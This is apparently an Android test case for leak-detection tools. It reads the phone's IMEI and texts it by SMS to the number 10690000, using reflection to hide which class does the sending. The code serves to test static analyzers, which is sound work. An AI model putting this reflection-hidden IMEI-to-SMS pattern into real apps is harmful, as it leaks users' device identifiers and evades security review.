// about       The class that sends is made by its constant name.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      // The name decides which class gets the value.
      Class<?> type = Class.forName("cn.example.flow.SmsReporter");
      Reporter reporter = (Reporter) type.newInstance();
      reporter.report(phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

interface Reporter {
  void report(String value);
}

class SmsReporter implements Reporter {
  @Override
  public void report(String value) {
    SmsManager.getDefault().sendTextMessage("10690000", null, value, null, null);
  }
}

class CountReporter implements Reporter {
  private int reports;

  @Override
  public void report(String value) {
    reports++;
    SmsManager.getDefault().sendTextMessage("10690000", null, "reports " + reports, null, null);
  }
}
